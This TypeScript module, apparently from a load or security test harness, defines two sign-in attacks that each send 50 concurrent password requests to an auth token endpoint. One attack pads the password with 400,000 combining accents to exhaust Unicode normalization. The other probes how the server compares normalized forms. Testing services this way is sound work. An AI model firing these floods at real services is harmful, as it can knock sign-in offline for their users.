import type { Attack } from './attack.ts'
import type { Attacker } from './attacker.ts'

function signInWith(password: string) {
  return ({ flood }: Attacker) =>
    flood(50, {
      path: '/auth/v1/token?grant_type=password',
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: 'nobody@example.com', password }),
    })
}

export const passwordAttacks: Record<string, Attack> = {
  'mark-passwords': {
    name: 'Sign-ins with passwords that have 400,000 accents to sort, 50 at once',
    run: signInWith(`a${'\u0301'.repeat(200_000)}${'\u0316'.repeat(200_000)}`),
  },
  'twofold-passwords': {
    name: 'Sign-ins with passwords that are compared in two forms, 50 at once',
    run: signInWith('cafe\u0301 noir'),
  },
}
